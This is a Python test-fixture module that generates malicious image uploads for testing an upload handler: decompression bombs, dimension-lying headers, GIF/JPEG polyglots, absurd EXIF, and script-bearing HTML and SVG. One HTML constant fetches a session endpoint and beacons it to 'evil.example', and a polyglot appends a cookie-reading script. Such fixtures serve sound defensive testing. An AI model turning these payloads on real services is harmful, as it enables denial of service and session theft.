"""Bad uploads made in memory: decompression bombs, polyglots, truncations, absurd EXIF.

Generated rather than checked in, so each sample says how it is built and a reviewer can trust that
it is what its name claims. The expensive ones are cached for the test session.
"""
from __future__ import annotations

import functools
import io
import struct
import zlib

from PIL import Image


def small_jpeg(size=(320, 240), quality: int = 85) -> bytes:
    img = Image.merge("RGB", [Image.effect_noise(size, 50 + 10 * i) for i in range(3)])
    buf = io.BytesIO()
    img.save(buf, "JPEG", quality=quality)
    return buf.getvalue()


def small_png(size=(64, 48)) -> bytes:
    buf = io.BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(buf, "PNG")
    return buf.getvalue()


def small_gif(size=(32, 32)) -> bytes:
    buf = io.BytesIO()
    Image.effect_noise(size, 40).convert("P").save(buf, "GIF")
    return buf.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_header(width: int, height: int, idat: bytes) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


@functools.lru_cache(maxsize=None)
def png_bomb(width: int = 10_000, height: int = 10_000) -> bytes:
    """A complete, valid PNG of 100 megapixels of black: ~100 KB on the wire, 100 MB decoded."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (width + 1)  # filter byte + pixels
    parts = [compressor.compress(row) for _ in range(height)]
    parts.append(compressor.flush())
    return png_header(width, height, b"".join(parts))


def png_huge_header_tiny_body(width: int = 30_000, height: int = 30_000) -> bytes:
    """IHDR claims 900 megapixels; the IDAT holds one row."""
    return png_header(width, height, zlib.compress(b"\x00" * (width + 1)))


def jpeg_with_dimensions(width: int, height: int, base: bytes | None = None) -> bytes:
    """A real JPEG whose SOF marker is rewritten to claim other dimensions (the scan data stays small)."""
    data = bytearray(base or small_jpeg((64, 48)))
    i = 2
    while i < len(data):
        marker = data[i + 1]
        length = struct.unpack(">H", data[i + 2:i + 4])[0]
        if marker in (0xC0, 0xC1, 0xC2):
            data[i + 5:i + 9] = struct.pack(">HH", height, width)
            return bytes(data)
        i += 2 + length
    raise AssertionError("no SOF marker")


@functools.lru_cache(maxsize=None)
def jpeg_bomb() -> bytes:
    """A complete, valid JPEG of 64 megapixels of flat grey (over the 60-megapixel limit), ~1 MB."""
    buf = io.BytesIO()
    Image.new("L", (8000, 8000), 128).save(buf, "JPEG", quality=10)
    return buf.getvalue()


def gif_jpeg_polyglot() -> bytes:
    """Starts as a GIF (what a sniffer sees), carries a whole JPEG after the GIF trailer."""
    return small_gif() + small_jpeg((64, 48))


def jpeg_gif_polyglot() -> bytes:
    """Starts as a JPEG, with a GIF (and a script) hidden after the JPEG's end-of-image marker."""
    return small_jpeg((64, 48)) + small_gif() + b"<script>alert(document.cookie)</script>"


HTML_SCRIPT = b"<!doctype html><html><body><script>fetch('/api/v1/session').then(r=>r.text())" \
              b".then(t=>navigator.sendBeacon('https://evil.example/',t))</script></body></html>"
SVG_SCRIPT = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">' \
             b'<script>alert(document.domain)</script><rect width="10" height="10"/></svg>'


def _ifd(entries: list[tuple[int, int, int, bytes]], start: int) -> tuple[bytes, bytes]:
    """A big-endian TIFF IFD at offset ``start``: (tag, type, count, value bytes) → (table, data area)."""
    table_len = 2 + 12 * len(entries) + 4
    table, data = struct.pack(">H", len(entries)), b""
    for tag, typ, count, value in entries:
        if len(value) <= 4:
            table += struct.pack(">HHI", tag, typ, count) + value.ljust(4, b"\x00")
        else:
            table += struct.pack(">HHII", tag, typ, count, start + table_len + len(data))
            data += value + (b"\x00" if len(value) % 2 else b"")
    return table + b"\x00\x00\x00\x00", data


def absurd_exif_segment() -> bytes:
    """EXIF written by hand, since Pillow (rightly) refuses to write these values itself."""
    short, long_, ascii_, rational = 3, 4, 2, 5
    gps_entries = [(0x0001, ascii_, 2, b"N\x00"),
                   (0x0002, rational, 3, struct.pack(">6I", 999, 1, 999, 1, 999, 0)),
                   (0x0003, ascii_, 2, b"E\x00"),
                   (0x0004, rational, 3, struct.pack(">6I", 4294967295, 1, 0, 0, 1, 4294967295))]
    exif_entries = [(0x9003, ascii_, 20, b"9999:99:99 99:99:99\x00"), (0x9011, ascii_, 7, b"+99:99\x00"),
                    # A comment claiming 4 GB of data at an offset far past the end of the file.
                    (0x9286, 7, 0xFFFFFFF0, struct.pack(">I", 0x7FFFFFF0))]
    ifd0_base = [(0x0112, short, 1, struct.pack(">H", 65535)),
                 (0x011A, rational, 1, struct.pack(">II", 1, 0)),
                 (0x8769, long_, 1, b""), (0x8825, long_, 1, b"")]
    # Lay out IFD0, then the EXIF IFD, then the GPS IFD, patching the two pointers once offsets are known.
    table0, data0 = _ifd([(t, ty, c, v or b"\x00\x00\x00\x00") for t, ty, c, v in ifd0_base], 8)
    exif_at = 8 + len(table0) + len(data0)
    table_e, data_e = _ifd(exif_entries, exif_at)
    gps_at = exif_at + len(table_e) + len(data_e)
    table_g, data_g = _ifd(gps_entries, gps_at)
    ifd0 = [(t, ty, c, struct.pack(">I", exif_at) if t == 0x8769 else struct.pack(">I", gps_at) if t == 0x8825
             else v) for t, ty, c, v in ifd0_base]
    table0, data0 = _ifd(ifd0, 8)
    tiff = b"MM\x00\x2a\x00\x00\x00\x08" + table0 + data0 + table_e + data_e + table_g + data_g
    payload = b"Exif\x00\x00" + tiff
    return b"\xff\xe1" + struct.pack(">H", len(payload) + 2) + payload


def jpeg_with_absurd_exif() -> bytes:
    """Orientation 65535, capture time in month 99, GPS 999° north with a zero denominator, a 4 GB comment."""
    plain = small_jpeg((96, 64))
    return plain[:2] + absurd_exif_segment() + plain[2:]
